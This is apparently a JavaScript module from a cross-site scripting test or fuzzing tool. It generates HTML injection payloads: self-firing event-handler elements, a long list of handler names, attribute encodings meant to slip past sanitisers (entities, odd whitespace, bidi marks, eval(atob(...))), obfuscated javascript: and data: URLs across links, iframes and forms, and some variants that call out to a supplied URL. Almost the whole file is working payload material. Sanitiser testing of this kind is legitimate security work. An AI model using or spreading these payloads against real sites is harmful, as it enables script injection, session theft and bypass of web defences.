// Payloads by what runs: elements and handlers, how an attribute is written, addresses.

import { base64, cross, decimal, each, entities, hex } from "./rules.mjs";

const PIXEL = "data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==";

// ── elements and handlers ──────────────────────────────────────────────────

/** Elements whose handler runs without anybody's doing, with `§` for it. */
const BY_ITSELF = [
  "<img src=x onerror=§>",
  `<img src=${PIXEL} onload=§>`,
  "<image src=x onerror=§>",
  "<svg onload=§>",
  "<svg><image href=x onerror=§>",
  "<svg><style onload=§></style>",
  "<video src=x onerror=§></video>",
  "<video><source src=x onerror=§></video>",
  "<audio src=x onerror=§>",
  "<video onloadstart=§><source></video>",
  "<body onload=§>",
  "<body onpageshow=§>",
  "<iframe onload=§></iframe>",
  "<object data=x onerror=§></object>",
  "<object data=data:text/html, onload=§></object>",
  "<embed src=data:text/html, onload=§>",
  "<link rel=stylesheet href=data:text/css, onload=§>",
  "<link rel=stylesheet href=x onerror=§>",
  "<link rel=preload as=image href=x onerror=§>",
  "<style onload=§></style>",
  "<script src=x onerror=§></script>",
  "<script src=data:, onload=§></script>",
  "<input type=image src=x onerror=§>",
  "<details open ontoggle=§>x</details>",
  "<marquee onstart=§>x</marquee>",
  "<picture><source srcset=x><img onerror=§></picture>",
  "<video src=data:, ><track default src=x onerror=§></video>",
  "<input autofocus onfocus=§>",
  "<select autofocus onfocus=§></select>",
  "<textarea autofocus onfocus=§></textarea>",
  "<button autofocus onfocus=§>x</button>",
  "<keygen autofocus tabindex=1 onfocus=§>",
  "<a href=x autofocus onfocus=§>x</a>",
  "<p contenteditable autofocus onfocusin=§>x</p>",
  "<x-y tabindex=1 autofocus onfocus=§>x</x-y>",
  "<svg tabindex=1 autofocus onfocus=§></svg>",
  "<math tabindex=1 autofocus onfocus=§></math>",
  "<p style='content-visibility:auto' oncontentvisibilityautostatechange=§>x</p>",
  "<style>@keyframes k{}</style><p style='animation:k 1ms' onanimationend=§>x</p>",
  "<style>@keyframes k{}</style><p style='animation:k 1ms' onanimationstart=§>x</p>",
  "<svg><animate attributeName=x dur=1ms onend=§>",
  "<svg><animate attributeName=x onbegin=§>",
  "<svg><set attributeName=x onbegin=§>",
  "<svg><animateTransform attributeName=transform onbegin=§>",
  "<svg><animateMotion onbegin=§>",
  "<svg><animate attributeName=x dur=1ms repeatCount=2 onrepeat=§>",
];

const HANDLERS =
  "abort animationcancel animationiteration auxclick beforecopy beforecut beforeinput beforematch beforepaste beforetoggle " +
  "beforexrselect blur cancel canplay canplaythrough change click close command contextlost contextmenu contextrestored " +
  "copy cuechange cut dblclick drag dragend dragenter dragleave dragover dragstart drop durationchange emptied ended " +
  "formdata focusout fullscreenchange fullscreenerror gotpointercapture input invalid keydown keypress keyup loadeddata " +
  "loadedmetadata lostpointercapture mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel " +
  "paste pause play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover " +
  "pointerrawupdate pointerup progress ratechange reset resize scroll scrollend scrollsnapchange scrollsnapchanging " +
  "search securitypolicyviolation seeked seeking select selectionchange selectstart slotchange stalled submit suspend " +
  "timeupdate transitioncancel transitionend transitionrun transitionstart volumechange waiting webkitanimationend " +
  "webkitanimationstart webkitfullscreenchange webkittransitionend wheel";
const WINDOW_HANDLERS =
  "afterprint beforeprint beforeunload hashchange languagechange message messageerror offline online pagehide popstate " +
  "rejectionhandled storage unhandledrejection unload";
const TAGS =
  "a abbr address area article audio b bdi blink blockquote button canvas center dialog div em fieldset font form h1 hr " +
  "i input ins label map mark menu meter nav object ol output p pre progress q ruby s samp section select slot small " +
  "span strong sub table textarea time u ul var video wbr x-custom math svg";

const tags = TAGS.split(" ");
export const handlers = [
  ...each(BY_ITSELF, (element, { js }) => element.replace("§", js)),
  ...HANDLERS.split(" ").map((name, index) => ({ js }) => `<${tags[index % tags.length]} on${name}=${js}>x`),
  ...each(WINDOW_HANDLERS.split(" "), (name, { js }) => `<body on${name}=${js}>`),
  ({ js }) => `<div popover id=p ontoggle=${js}>x</div><button popovertarget=p>x</button>`,
  ({ js }) => `<button commandfor=d command=show-modal>x</button><dialog id=d onbeforetoggle=${js}>x</dialog>`,
  ({ js }) => `<label for=i>x</label><input id=i onclick=${js}>`,
  ({ js }) => `<a onclick=${js} href=#>x</a>`,
  ({ js }) => `<select onchange=${js}><option>x</select>`,
  ({ js }) => `<form onsubmit=${js}><button>x</button></form>`,
  ({ js }) => `<form><input onfocus=${js} accesskey=x></form>`,
];

// ── how an attribute can be written ────────────────────────────────────────

/** An attribute's value `js` as browsers read it. A cleaner may read some of it otherwise. */
const WRITINGS = [
  (name, js) => ` ${name}="${js}"`,
  (name, js) => ` ${name}='${js}'`,
  (name, js) => `/${name}=${js} `,
  (name, js) => `//${name}=${js} `,
  (name, js) => `\t${name}\t=\t${js}`,
  (name, js) => `\n${name}\n=\n${js}\n`,
  (name, js) => `\f${name}\f=\f${js}`,
  (name, js) => `\r\n${name}\r=\r${js}`,
  (name, js) => ` ${name.toUpperCase()}=${js}`,
  (name, js) => ` a="1"${name}=${js}`,
  (name, js) => ` a='>'${name}=${js}`,
  (name, js) => ` a=">" b='">' ${name}=${js}`,
  (name, js) => ` < ${name}=${js}`,
  (name, js) => ` = ${name}=${js}`,
  (name, js) => ` """ ${name}=${js}`,
  (name, js) => ` ' ${name}=${js}`,
  (name, js) => ` a<b=1 ${name}=${js}`,
  (name, js) => ` ${name}="&#32;${decimal(js)}"`,
  (name, js) => ` ${name}=${decimal(js)}`,
  (name, js) => ` ${name}=${hex(js)}`,
  (name, js) => ` ${name}=${entities(js, (code) => `&#x${code.toString(16)}`)}`,
  (name, js) => ` ${name}=${entities(js, (code) => `&#0000${code};`)}`,
  (name, js) => ` ${name}=${js.replace("(", "&lpar;").replace(")", "&rpar;")}`,
  (name, js) => ` ${name}=${js.replace(".", "&period;")}`,
  (name, js) => ` ${name}=${js.replace("top", "t\\u006fp")}`,
  (name, js) => ` ${name}=${js.replace("(", "`").replace(")", "`")}`,
  (name, js) => ` ${name}=javascript:${js}`,
  (name, js) => ` ${name}=eval(atob('${base64(js)}'))`,
  (name, js) => ` ${name}=${js};//`,
  (name, js) => ` \u00A0=1 ${name}=${js}`,
  (name, js) => ` \u2003 ${name}=${js}`,
  (name, js) => ` \u202E\u2066 ${name}=${js}`,
  (name, js) => ` ${name}=${js} ${name}=1`,
];
export const attributes = cross(["<img src=x§>", "<svg§>", "<details open§>x"], WRITINGS, (element, write, { js }) => {
  const name = { i: "onerror", s: "onload", d: "ontoggle" }[element[1]];
  return element.replace("§", () => write(name, js));
});

// ── addresses ──────────────────────────────────────────────────────────────

const SCHEMES = [
  (js) => `javascript:${js}`,
  (js) => `JaVaScRiPt:${js}`,
  (js) => `javascript://%0a${js}`,
  (js) => `javascript:/*x*/${js}`,
  (js) => `java\tscript:${js}`,
  (js) => `java\nscript\r:${js}`,
  (js) => ` \u0001javascript:${js}`,
  (js) => `java&#9;script:${js}`,
  (js) => `java&Tab;scr&NewLine;ipt&colon;${js}`,
  (js) => `&#1;&#32;javascript:${js}`,
  (js) => `&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116:${js}`,
  (js) => `${hex("javascript:")}${js}`,
  (js) => `&#x6A;&#0000097;vascript:${js}`,
  (js) => `javascript:${js.replace("(", "%28").replace(")", "%29")}`,
  (js) => `javascript:%74op${js.slice(3)}`,
  (js) => `javascript:"<script>${js}<\\/script>"`.replaceAll('"', "&quot;"),
];
const PLACES = [
  '<a href="§">x</a>',
  '<iframe src="§"></iframe>',
  '<form action="§"><button>x</button></form>',
  '<form><button formaction="§">x</button></form>',
  '<svg><a xlink:href="§"><text y=20>x</text></a></svg>',
  '<map><area href="§">x</map>',
  '<input type=submit form=f formaction="§"><form id=f></form>',
];
export const addresses = [
  ...cross(PLACES, SCHEMES, (place, scheme, { js }) => place.replace("§", () => scheme(js))),
  ({ js }) => `<form><input type=submit formaction=javascript:${js}></form>`,
  ({ js }) => `<form><input type=image src=x formaction=javascript:${js}></form>`,
  ({ js }) => `<form id=f action=javascript:${js}></form><button form=f>x</button>`,
  ({ js }) => `<base href="javascript:/"><a href="/${js}">x</a>`,
  ({ js }) => `<embed src=javascript:${js}>`,
  ({ url }) => `<iframe src="data:text/html,<img src=http:${url}>"></iframe>`,
  ({ url }) => `<iframe src="data:text/html;base64,${base64(`<img src=http:${url}>`)}"></iframe>`,
  ({ url }) => `<iframe src="data:text/html;charset=utf-8,%3Cimg src=http:${url}%3E"></iframe>`,
  ({ url }) => `<iframe src="DATA:TEXT/HTML,<script>new Image().src='http:${url}'</script>"></iframe>`,
  ({ url }) => `<iframe src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='fetch(&quot;http:${url}&quot;)'/>"></iframe>`,
  ({ url }) => `<object data="data:text/html,<img src=http:${url}>"></object>`,
  ({ url }) => `<embed src="data:text/html,<img src=http:${url}>">`,
  ...each(["vbscript:", "livescript:", "mocha:", "feed:javascript:", "jar:javascript:", "x-javascript:"], (scheme, { js }) => `<a href="${scheme}${js}">x</a>`),
  ({ js }) => `<img src=javascript:${js}>`,
  ({ js }) => `<math href=javascript:${js}>x</math>`,
  ({ js }) => `<math><maction xlink:href=javascript:${js}>x</maction></math>`,
  ({ js }) => `[x](javascript:${js})`,
  ({ js }) => `![x](x"onerror="${js})`,
  ({ js }) => `<https://example.org/"onmouseover="${js}>`,
  ({ js }) => `https://example.org/"onmouseover="${js}"`,
  ({ js }) => `javascript:${js}`,
];
